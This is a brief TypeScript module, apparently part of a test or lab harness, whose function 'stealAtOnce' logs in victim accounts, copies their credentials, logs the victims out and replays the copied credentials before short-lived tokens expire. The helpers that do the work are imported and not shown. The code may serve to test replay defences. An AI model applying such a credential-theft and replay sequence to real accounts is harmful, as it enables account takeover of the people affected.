// All that comes before a replay, without a pause in which a short-lived token would die.
import { copyCredentials } from './copy.js';
import { isReplaying, replayCopies } from './replays.js';
import { logInVictims, logOutVictims } from './victim.js';

export async function stealAtOnce(): Promise<void> {
  await logInVictims();
  await copyCredentials();
  await logOutVictims();
  isReplaying.value = true;
  await replayCopies();
}
